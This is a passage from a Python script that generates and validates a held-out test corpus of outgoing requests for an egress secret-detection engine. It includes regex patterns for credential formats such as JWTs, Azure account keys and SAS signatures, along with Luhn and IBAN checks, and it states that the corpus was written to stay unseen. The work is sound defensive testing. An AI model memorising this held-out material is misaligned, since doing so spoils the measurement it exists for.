    r"\brnd_[A-Za-z0-9]{20}", r"rzp_live_", r"eyJ[\w-]{8,}\.eyJ[\w-]{8,}\.", r"[A-Za-z0-9]{3}\dQ~[\w~.-]{30}", r"AccountKey=", r"SharedAccessKey=",
    r"\bsig=[A-Za-z0-9%+/]{30}", r"\b[5KLc9][1-9A-HJ-NP-Za-km-z]{50,51}\b",
]))


def luhn_hits(text):
    out = []
    for m in re.finditer(r"(?<![0-9A-Za-z])\d+(?:[ -]\d+)*(?![0-9A-Za-z])", text):
        d = re.sub(r"[ -]", "", m.group(0))
        if 13 <= len(d) <= 19 and luhn_ok(d):
            out.append(d)
    for m in re.finditer(r"(?<!\d)\d{13,19}(?!\d)", text):
        if luhn_ok(m.group(0)):
            out.append(m.group(0))
    return out


def iban_hits(text):
    out = []
    up = text
    for m in re.finditer(r"[A-Z]{2}\d{2}[A-Z0-9]{11,30}", up):
        s = m.group(0)
        for ln in range(15, min(34, len(s)) + 1):
            if iban_valid(s[:ln]):
                out.append(s[:ln])
    for m in re.finditer(r"[A-Z]{2}\d{2}(?: [A-Z0-9]{4}){2,7}(?: [A-Z0-9]{1,4})?", up):
        if iban_valid(m.group(0)):
            out.append(m.group(0))
    return out


def payload_texts(case):
    """All decoded views of a case body for hygiene checks."""
    views = []
    if "text" in case:
        views.append(case["text"])
        try:
            views.append(urllib.parse.unquote(case["text"]))
        except Exception:
            pass
    else:
        raw = base64.b64decode(case["base64"])
        views.append(raw.decode("latin-1"))
        ce = case.get("content_encoding")
        try:
            if ce == "gzip" or raw[:2] == b"\x1f\x8b":
                views.append(gzip_decompress(raw).decode("latin-1"))
            elif ce == "deflate":
                views.append(zlib.decompress(raw).decode("latin-1"))
        except Exception:
            pass
        if raw[:2] == b"PK":
            try:
                with zipfile.ZipFile(io.BytesIO(raw)) as z:
                    for n in z.namelist():
                        views.append(z.read(n).decode("latin-1"))
            except Exception:
                pass
    return views


def gzip_decompress(raw):
    return zlib.decompress(raw, 16 + zlib.MAX_WBITS)


def neg_problems(case):
    probs = []
    for v in payload_texts(case):
        m = VENDOR_RX.search(v)
        if m:
            probs.append("vendor-pattern:%s" % m.group(0)[:30])
        if luhn_hits(v):
            probs.append("luhn")
        if iban_hits(v):
            probs.append("iban")
    return probs


# ---------------------------------------------------------------- format validation
KEY_ORDER = ["id", "label", "expect", "where", "content_type", "content_encoding", "text", "base64"]
TCHAR = re.compile(r"^[!#$%&'*+\-.^_`|~0-9A-Za-z]+$")
LABEL = re.compile(r"^[A-Za-z0-9]([A-Za-z0-9-]{0,61}[A-Za-z0-9])?$")
KEBAB = re.compile(r"^[a-z0-9]+(?:-[a-z0-9]+)*$")


def validate_case(c, label, prefix):
    errs = []
    keys = list(c.keys())
    if keys[:4] != ["id", "label", "expect", "where"]:
        errs.append("key order")
    if [k for k in KEY_ORDER if k in c] != keys:
        errs.append("unknown keys or bad order: %s" % keys)
    if not re.fullmatch(prefix + r"\d{4}", c.get("id", "")):
        errs.append("bad id")
    if c.get("label") != label:
        errs.append("bad label")
    if not KEBAB.match(c.get("expect", "")):
        errs.append("expect not kebab-case")
    w = c.get("where")
    if w not in ("body", "url", "header", "hostname"):
        errs.append("bad where")
    if ("text" in c) == ("base64" in c):
        errs.append("need exactly one of text/base64")
    if "content_type" in c and w != "body":
        errs.append("content_type outside body")
    if "content_type" in c and not isinstance(c["content_type"], str):
        errs.append("content_type not string")
    if "content_encoding" in c:
        if c["content_encoding"] not in ("gzip", "deflate") or "base64" not in c:
            errs.append("bad content_encoding")
    if "base64" in c:
        if w != "body":
            errs.append("base64 outside body")
        try:
            raw = base64.b64decode(c["base64"], validate=True)
        except Exception:
            errs.append("invalid base64")
            raw = b""
        if base64.b64encode(raw).decode() != c["base64"]:
            errs.append("non-canonical base64")
        ce = c.get("content_encoding")
        try:
            if ce == "gzip":
                gzip_decompress(raw)
            elif ce == "deflate":
                zlib.decompress(raw)
        except Exception:
            errs.append("content_encoding does not decode")
        size = len(raw)
    else:
        t = c["text"]
        if not isinstance(t, str):
            errs.append("text not a string")
            t = ""
        size = len(t.encode("utf-8"))
        if w == "header":
            if "\n" in t or "\r" in t or not all(32 <= ord(ch) < 127 or ch == "\t" for ch in t):
                errs.append("header not one ASCII line")
            m = re.match(r"^([^:\s]+): (.*)$", t)
            if not m or not TCHAR.match(m.group(1)):
                errs.append("header not Name: value")
        elif w == "url":
            if not re.match(r"^https?://[^/\s?#]+", t) or not all(33 <= ord(ch) < 127 for ch in t):
                errs.append("url not absolute ASCII http(s)")
            if not re.fullmatch(r"[A-Za-z0-9\-._~:/?\[\]@!$&'()*+,;=%]+", t):
                errs.append("url has characters outside RFC 3986 (or a fragment)")
            for m in re.finditer(r"%", t):
                if not re.match(r"%[0-9A-Fa-f]{2}", t[m.start():m.start() + 3]):
                    errs.append("bad percent escape")
                    break
            try:
                p = urllib.parse.urlsplit(t)
                if p.scheme not in ("http", "https") or not p.netloc:
                    errs.append("url parse")
            except Exception:
                errs.append("url parse")
        elif w == "hostname":
            if len(t) > 253 or not all(LABEL.match(l) for l in t.split(".")) or "." not in t:
                errs.append("bad hostname")
    if size > 60000:
        errs.append("case too large")
    return errs


# ---------------------------------------------------------------- assembly
def finalize(d):
    out = {}
    if d.get("content_type"):
        out["content_type"] = d["content_type"]
    if d.get("content_encoding"):
        out["content_encoding"] = d["content_encoding"]
    if "text" in d:
        out["text"] = d["text"]
    else:
        out["base64"] = d["base64"]
    return out


SEEN_PAYLOADS = set()


def build_one(label, expect, where, fn, prefix):
    for attempt in range(300):
        d = fn(where)
        body = finalize(d)
        if where != "body":
            body.pop("content_type", None)
        case = {"id": prefix + "0000", "label": label, "expect": expect, "where": where}
        case.update(body)
        errs = validate_case(case, label, prefix)
        if label == "negative":
            errs += neg_problems(case)
        key = json.dumps(body, sort_keys=True)
        if key in SEEN_PAYLOADS:
            errs.append("duplicate payload")
        if not errs:
            SEEN_PAYLOADS.add(key)
            return case
    raise SystemExit("could not build %s %s/%s: %s" % (label, expect, where, errs))


def build():
    reg_vendors()
    pos = [build_one("positive", c, w, f, "t15-pos-") for c, w, f in POS]
    neg = [build_one("negative", c, w, f, "t15-neg-") for c, w, f in NEG]
    R.shuffle(pos)
    R.shuffle(neg)
    for i, c in enumerate(pos):
        c["id"] = "t15-pos-%04d" % (i + 1)
    for i, c in enumerate(neg):
        c["id"] = "t15-neg-%04d" % (i + 1)
    return pos, neg


def dump_jsonl(cases):
    return "".join(json.dumps(c, ensure_ascii=True, separators=(", ", ": ")) + "\n" for c in cases).encode("ascii")


def sha256_file(p):
    with open(p, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


README_HEAD = ("**This corpus is HELD OUT.** It is meant for a single, final measurement of the egress secret-detection engine. "
               "Never tune rules, thresholds or allow-lists on it, never look at individual misses in order to fix them, "
               "and report results by class/category only.")


def table(rows, h1, h2):
    out = ["| %s | %s |" % (h1, h2), "|---|---:|"]
    out += ["| %s | %d |" % (k, v) for k, v in rows]
    return "\n".join(out)


def counts(cases, key):
    d = {}
    for c in cases:
        d[c[key]] = d.get(c[key], 0) + 1
    return d


def readme(pos, neg):
    sp, sn, sg = (sha256_file(os.path.join(HERE, n)) for n in ("positives.jsonl", "negatives.jsonl", "generate.py"))
    wp, wn = counts(pos, "where"), counts(neg, "where")
    wrows = ["| where | positives | negatives |", "|---|---:|---:|"]
    for w in ("body", "url", "header", "hostname"):
        wrows.append("| %s | %d | %d |" % (w, wp.get(w, 0), wn.get(w, 0)))
    wrows.append("| total | %d | %d |" % (len(pos), len(neg)))
    cp, cn = counts(pos, "expect"), counts(neg, "expect")
    parts = [README_HEAD, "", "# t15 held-out egress corpus", "",
             "## How it was written", "",
             "This corpus was written without any access to the egress secret-detection engine: its source code, rules, tests, "
             "allow-lists, other corpora and the project history were not read. Every case was derived from public knowledge only "
             "(documented credential prefixes, alphabets and lengths, public check-digit algorithms for payment cards, IBANs and "
             "national identifiers, well-known key encodings, common exfiltration techniques and ordinary benign web traffic).",
             "All key material, tokens, passwords and personal data are produced by a seeded pseudo-random generator; nothing is real. "
             "Some positives deliberately carry a vendor prefix with a wrong checksum, low-entropy filler or a slightly wrong length, "
             "because by policy such values are treated as secrets. Negatives were re-drawn whenever they matched a vendor-prefix "
             "pattern, contained a Luhn-valid 13-19 digit run or a valid IBAN.", "",
             "## Regenerate", "",
             "```", "python3 generate.py          # writes positives.jsonl, negatives.jsonl and README.md", "python3 generate.py --check  # validates every line, ids and hygiene; non-zero exit on a problem", "```", "",
             "Seed: `%d` (a single `random.Random(%d)` drives all choices). Output is deterministic: gzip members are written with "
             "mtime=0 and no file name, zip members use a fixed 1980-01-01 timestamp, tar members mtime=0, and JSON is serialised with a "
             "fixed key order, so re-running the generator with the same Python version produces byte-identical files." % (SEED, SEED), "",
             "## Checksums (sha256)", "", "```", "%s  positives.jsonl" % sp, "%s  negatives.jsonl" % sn, "%s  generate.py" % sg, "```", "",
             "## Line format", "",
             "JSON Lines, one case per line, keys in this order:", "",
             "- `id`: `t15-pos-NNNN` / `t15-neg-NNNN`, sequential from 0001 (cases are shuffled before numbering)",
             "- `label`: `positive` | `negative`",
             "- `expect`: positives: the credential/data class; negatives: the benign category (kebab-case)",
             "- `where`: `body` | `url` | `header` | `hostname` (where the data sits in the outgoing request)",
             "- `content_type` (optional, bodies only)",
             "- `content_encoding` (optional, `gzip` or `deflate` (zlib-wrapped); only together with `base64`)",
             "- exactly one of `text` (UTF-8 string) or `base64` (raw body bytes, standard base64)",
             "- a header case is one ASCII `Name: value` line; a url case is an absolute http(s) ASCII URL with valid percent escapes; "
             "a hostname case is a bare LDH hostname (labels <= 63 chars, total <= 253)", "",
             "## Counts", "",
             "Positives: %d cases in %d classes. Negatives: %d cases in %d categories." % (len(pos), len(cp), len(neg), len(cn)), "",
             "\n".join(wrows), "",
             "### Positives by class", "", table(sorted(cp.items()), "class", "cases"), "",
             "### Negatives by category", "", table(sorted(cn.items()), "category", "cases"), ""]
    return "\n".join(parts)


def check():
    bad = 0
    seen = set()
    seen_payloads = set()
    res = {}
    for fname, label, prefix in (("positives.jsonl", "positive", "t15-pos-"), ("negatives.jsonl", "negative", "t15-neg-")):
        path = os.path.join(HERE, fname)
        if not os.path.exists(path):
            print("missing %s" % fname)
            return 1
        with open(path, "rb") as f:
            data = f.read()
        lines = data.split(b"\n")
        if lines and lines[-1] == b"":
            lines = lines[:-1]
        cases = []
        for n, line in enumerate(lines, 1):
            try:
                c = json.loads(line.decode("utf-8"))
            except Exception as e:
                print("%s:%d: invalid JSON (%s)" % (fname, n, e))
                bad += 1
                continue
            if not isinstance(c, dict):
                print("%s:%d: not an object" % (fname, n))
                bad += 1
                continue
            errs = validate_case(c, label, prefix)
            if label == "negative":
                errs += neg_problems(c)
            if c.get("id") in seen:
                errs.append("duplicate id")
            pkey = json.dumps({k: v for k, v in c.items() if k in ("content_type", "content_encoding", "text", "base64")}, sort_keys=True)
            if pkey in seen_payloads:
                errs.append("duplicate payload")
            seen_payloads.add(pkey)
            seen.add(c.get("id"))
            if c.get("id") != "%s%04d" % (prefix, n):
                errs.append("id not sequential")
            if len(line) >= 65536:
                errs.append("line >= 64 KiB")
            for e in errs:
                print("%s:%d (%s): %s" % (fname, n, c.get("id"), e))
            bad += len(errs)
            cases.append(c)
        res[label] = cases
    ncls = len(counts(res["positive"], "expect"))
    ncat = len(counts(res["negative"], "expect"))
    if ncls < 130:
        print("only %d positive classes" % ncls)
        bad += 1
    if ncat < 45:
        print("only %d negative categories" % ncat)
        bad += 1
    print("positives=%d classes=%d negatives=%d categories=%d problems=%d" % (len(res["positive"]), ncls, len(res["negative"]), ncat, bad))
    return 1 if bad else 0


def main():
    if "--check" in sys.argv[1:]:
        sys.exit(check())
    pos, neg = build()
    with open(os.path.join(HERE, "positives.jsonl"), "wb") as f:
        f.write(dump_jsonl(pos))
    with open(os.path.join(HERE, "negatives.jsonl"), "wb") as f:
        f.write(dump_jsonl(neg))
    with open(os.path.join(HERE, "README.md"), "w", encoding="utf-8", newline="\n") as f:
        f.write(readme(pos, neg))
    print("positives=%d (%d classes) negatives=%d (%d categories)" % (len(pos), len(counts(pos, "expect")), len(neg), len(counts(neg, "expect"))))


if __name__ == "__main__":
    main()
